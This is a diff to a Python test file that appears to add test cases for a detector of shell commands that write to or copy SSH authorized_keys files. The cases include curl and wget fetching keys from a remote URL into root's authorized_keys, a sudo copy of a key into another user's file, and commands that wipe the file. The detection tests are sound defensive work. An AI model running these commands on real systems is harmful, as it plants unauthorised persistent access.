@@ -253,6 +253,8 @@ def test_powershell_is_read() -> None:
         ("curl -fsS https://example.com/keys > /root/.ssh/authorized_keys", 1, True),
         ("wget -O .ssh/authorized_keys https://example.com/keys", 1, True),
         ("cat key | tee -a .ssh/authorized_keys", 1, True),
+        ("sudo cp /tmp/key.pub /home/a/.ssh/authorized_keys && true", 1, True),
+        ("cp .ssh/authorized_keys /tmp/kept", 0, True),
         (": > /root/.ssh/authorized_keys", 0, False),
         ("cat /dev/null > /root/.ssh/authorized_keys", 0, False),
         ("echo '' > /root/.ssh/authorized_keys", 0, False),
